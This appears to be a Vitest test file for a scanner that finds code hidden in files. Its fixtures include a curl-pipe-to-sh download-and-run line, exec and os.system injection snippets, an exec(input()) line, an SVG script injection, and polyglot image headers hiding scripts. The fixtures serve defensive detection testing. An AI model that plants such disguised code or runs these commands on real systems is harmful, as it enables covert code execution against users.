import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { folderWith, placesOf, scanFolder } from "../../support/scans/scan-files.ts";

const script = 'require("child_process").exec("ls " + process.argv[2]);\n';
const python = "import os, sys\nos.system(sys.argv[1])\n";
const shell = "curl https://example.org/x | sh\n";

const bytes = (...parts: readonly string[]) => Buffer.from(parts.join(""), "latin1");

test("code is read whatever its name, its first bytes or what stands before it make of it", async () => {
  const files: Readonly<Record<string, string | Buffer>> = {
    "await.txt": `var await = 1;\n${script}`,
    "banner.gif": bytes("GIF89a/*\xe9*/=1;\n", script),
    "bits.bmp": bytes("BM=1/*\xe9\0\0\0\0*/;\n", script),
    "conf.json": python,
    "data.csv": script,
    "late.dat": `/*${"x".repeat(70_000)}*/\n${script}`,
    "list.json5": script,
    "logo.png": python,
    "notes.md": `/*\n# Notes\n*/\n${script}`,
    "odd.lock": script,
    "open.svg": "<svg><script>document.body.innerHTML = location.hash</script></svg>\n",
    "photo.jpg": bytes("\xff\xd8\xff\xe0\n", shell),
    "plain.txt": `# Notes\n${python}`,
    "poem.snap": `if (1) ${script}`,
    "sound.mp3": shell,
    "text.dat": `x = \`\nimport os\n\`;\n${script}`,
    "unseen.txt": 'if __import__("sys").argv: exec(input())\n',
    "zeros.js": `// ${"\0".repeat(200)}\n${script}`,
    "zeros.py": `# ${"\0".repeat(200)}\n${python}`,
  };
  const found = new Set(placesOf(await scanFolder(await folderWith(files))).map((one) => one.split(":")[0]));
  expect([...found]).toEqual(Object.keys(files));
});

test("prose, data and pictures are no code, whatever they show", async () => {
  const files: Readonly<Record<string, string | Buffer>> = {
    "README.md": `# Harbour\n\nRun it (quickly):\n\n\`\`\`js\n${script}\`\`\`\n\n\`\`\`python\n${python}\`\`\`\n\n${shell}`,
    "guide.rst": `Harbour\n=======\n\nimport os\n\nThis is how (it) goes::\n\n  ${python}`,
    "list.csv": `name,call\nimport,exec(x)\n"a b",os.system(y)\n`,
    "map.geojson": `{ "class": [${'"import",\n'.repeat(5_000)}1] }\n`,
    "poetry.lock": `[[package]]\nname = "eval"\noptional = false\npython-versions = ">=3.8"\ndescription = "exec(x)"\n`,
    format: "3.0 (quilt)\n",
    "shown.json": `[${JSON.stringify(script)}, ${JSON.stringify(python)}]\n`,
    "tide.sql": "CREATE TABLE tide (at int);\nSELECT count(*) FROM tide;\n",
    "logo.png": Buffer.concat([Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), Buffer.alloc(3_000, 0xe9)]),
    "video.ts": Buffer.concat([Buffer.from("G@\x11\x10"), Buffer.alloc(1_000)]),
    "plain.svg": "<svg><path d='M 0 0'/></svg>\n",
  };
  const { findings, unscanned } = await scanFolder(await folderWith(files));
  expect(findings).toEqual([]);
  expect(unscanned.map(({ path }) => path)).toEqual(["video.ts"]);
});

test("a program or an archive is told, also behind a picture or without a first sign of one", async () => {
  const end = Buffer.concat([Buffer.from("504b0506", "hex"), Buffer.alloc(16), Buffer.from([2, 0]), Buffer.from("hi")]);
  const picture = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(3_000)]);
  const tar = Buffer.alloc(1_024);
  tar.write("app.js", 0);
  tar.write("ustar", 257);
  const files = {
    "app.pyc": Buffer.concat([Buffer.from("a70d0d0a", "hex"), Buffer.alloc(200)]),
    "logo.png": Buffer.concat([picture, end]),
    "parts.dat": tar,
  };
  const { unscanned } = await scanFolder(await folderWith(files));
  const reason = "is a program or an archive, which no rule reads";
  expect(unscanned).toEqual(Object.keys(files).map((path) => ({ path, reason })));
});

test("what a link calls code, or a list of packages, is read as such", async () => {
  const files = {
    "notes.txt": shell,
    "plain.txt": "puts 1\n",
    "deps.json": '{ "dependencies": { "knots": "^1.0.0" } }',
  };
  const folder = await folderWith(files);
  await symlink("notes.txt", join(folder, "run.sh"));
  await symlink("plain.txt", join(folder, "app.rb"));
  await symlink("deps.json", join(folder, "package.json"));
  await symlink("plain.txt", join(folder, "same.txt"));
  const result = await scanFolder(folder);
  expect(placesOf(result)).toEqual(["run.sh:1 shell/download-and-run"]);
  expect(result.unscanned.map(({ path }) => path)).toEqual(["app.rb"]);
  expect(result.components).toMatchObject([{ name: "knots", path: "deps.json" }]);
});
